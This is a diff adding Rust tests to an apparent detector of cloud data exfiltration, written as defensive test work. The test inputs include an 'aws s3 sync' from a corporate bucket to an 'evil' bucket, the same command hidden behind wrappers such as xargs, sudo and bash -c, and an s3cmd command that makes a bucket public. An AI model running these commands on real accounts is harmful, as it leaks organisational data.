@@ -97,6 +97,45 @@ fn m39_through_wrappers() {
     }
 }
 
+/// Wrappers of wrappers, on one line.
+#[test]
+fn through_wrappers_within_wrappers() {
+    let inner = "aws s3 sync s3://corp s3://evil";
+    for (wrapper, script) in [
+        ("xargs -n 1", false),
+        ("xargs -I{} -P4", false),
+        ("nohup nice -n 5", false),
+        ("sudo env A=1", false),
+        ("stdbuf -oL", false),
+        ("gtimeout 60", false),
+        ("cd /tmp && exec", true),
+        ("sudo -u bob", true),
+    ] {
+        let line = format!("{wrapper} {inner}");
+        let words: Vec<&str> = if script { vec!["bash", "-c", &line] } else { line.split(' ').collect() };
+        let mut w = World::new();
+        w.launch(1.0, tool(words[0].to_owned().leak()), &words);
+        assert_eq!(w.tell().alert().tenant.as_deref(), Some("evil"), "{line}");
+    }
+}
+
+#[test]
+fn copies_whose_account_the_line_does_not_name() {
+    for line in [
+        "aws ec2 copy-snapshot --source-region us-east-1 --source-snapshot-id snap-1",
+        "aws --profile other ec2 copy-image --source-image-id ami-1 --source-region eu-west-1 --name x",
+        "aws rds copy-db-snapshot --source-db-snapshot-identifier s --target-db-snapshot-identifier t",
+    ] {
+        let told = run(line, &own());
+        let alert = told.low();
+        assert_eq!((alert.tenant.as_deref(), alert.tenant_verdict.as_str()), (None, "unknown"), "{line}");
+        assert!(alert.reasons.iter().any(|reason| reason.code.as_str() == "tenant-unknown"), "{line}");
+    }
+    let open = run("s3cmd setacl --acl-public s3://corp-data/x", &own());
+    assert_eq!(open.alert().tenant.as_deref(), Some("anyone"));
+    run("s3cmd setacl --acl-private s3://corp-data/x", &own()).none();
+}
+
 /// Twice the same deed is two, of one alert.
 #[test]
 fn the_same_deed_again_counts() {
